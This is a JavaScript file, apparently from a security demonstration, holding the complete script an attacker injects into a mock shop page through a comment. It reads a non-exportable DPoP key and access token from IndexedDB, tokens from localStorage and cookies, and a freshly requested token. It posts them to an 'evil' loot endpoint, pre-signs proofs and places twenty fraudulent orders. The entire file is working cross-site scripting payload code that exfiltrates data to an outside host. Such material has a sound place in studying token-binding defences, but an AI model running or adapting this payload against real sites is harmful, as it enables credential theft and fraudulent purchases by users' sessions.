/* oxlint-disable unicorn/consistent-function-scoping -- a block is the only scope that it has */
/**
 * The thief's script, which a comment loads into the shop's page. It knows nothing but the page: it
 * takes what it can read, asks for what the page could ask for, and orders with what there is.
 *
 * It is meant for this shop alone, whose customers exist for one play, and sends what it finds to
 * the thief of the same play, on the same machine. A block: nothing of it is a name of the page.
 */
{
  const ORDERS = 20;

  const times = (count, make) => Promise.all(Array.from({ length: count }, make));

  const encoded = (bytes) =>
    btoa(String.fromCharCode(...new Uint8Array(bytes)))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");

  const utf8 = (value) =>
    new TextEncoder().encode(typeof value === "string" ? value : JSON.stringify(value));

  const answered = (request) =>
    new Promise((resolve, reject) => {
      request.addEventListener("success", () => resolve(request.result));
      request.addEventListener("error", () => reject(request.error));
    });

  /** What the page's database has: a key comes as an object that signs and cannot be exported. */
  const kept = async () => {
    const database = await answered(indexedDB.open("shop"));
    if (!database.objectStoreNames.contains("kept")) {
      database.close();
      return {};
    }
    const store = database.transaction("kept").objectStore("kept");
    const [pair, access] = await Promise.all(["key", "access"].map((name) => answered(store.get(name))));
    database.close();
    return { pair, access };
  };

  /** A proof for one order, signed by the page's key (RFC 9449). */
  const proof = async ({ pair, access }, order) => {
    const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
    const header = { typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } };
    const claims = {
      jti: crypto.randomUUID(),
      htm: "POST",
      htu: location.origin + order,
      iat: Math.floor(Date.now() / 1000),
      ath: encoded(await crypto.subtle.digest("SHA-256", utf8(access))),
    };
    const text = `${encoded(utf8(header))}.${encoded(utf8(claims))}`;
    const how = { name: "ECDSA", hash: "SHA-256" };
    return `${text}.${encoded(await crypto.subtle.sign(how, pair.privateKey, utf8(text)))}`;
  };

  class Thief {
    constructor({ play, house, evil }) {
      this.root = `/${play}/${house}/`;
      this.home = `${evil}${this.root}loot/`;
    }

    async rob() {
      const headers = await this.search();
      const order = async () => this.post("order/", { item: "gold lamp" }, await headers());
      const answers = await times(ORDERS, order);
      return { tried: ORDERS, ordered: answers.filter(({ ok }) => ok).length };
    }

    /** Send home what can be read, and what the shop hands out; gives what an order is sent with. */
    async search() {
      return (await this.database()) ?? (await this.storage()) ?? (await this.asked()) ?? (async () => ({}));
    }

    async database() {
      const found = await kept();
      if (!found.pair) return null;
      const order = `${this.root}order/`;
      const proofs = await times(ORDERS, () => proof(found, order));
      await this.send({ kind: "database", token: found.access, proofs });
      return async () => ({ Authorization: `DPoP ${found.access}`, DPoP: await proof(found, order) });
    }

    async storage() {
      const token = localStorage.getItem("access");
      if (!token) return null;
      await this.send({ kind: "localStorage", token, refresh: localStorage.getItem("refresh") });
      return async () => ({ Authorization: `Bearer ${token}` });
    }

    /** Ask for a new token, as the page does after a reload. */
    async asked() {
      if (document.cookie) await this.send({ kind: "cookie", cookie: document.cookie });
      const response = await this.post("refresh/", {});
      const token = response.ok ? (await response.json()).access : null;
      if (!token) return null;
      await this.send({ kind: "asked", token });
      return async () => ({ Authorization: `Bearer ${token}` });
    }

    send(found) {
      return fetch(this.home, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
    }

    post(path, body, headers = {}) {
      return fetch(this.root + path, {
        method: "POST",
        body: JSON.stringify(body),
        headers: { "Content-Type": "application/json", ...headers },
      });
    }
  }

  window.thief = new Promise((resolve, reject) => {
    const begin = () => {
      const page = JSON.parse(document.getElementById("stop-data").textContent);
      new Thief(page).rob().then(resolve, reject);
    };
    document.addEventListener("shop-ready", begin, { once: true });
  });
}
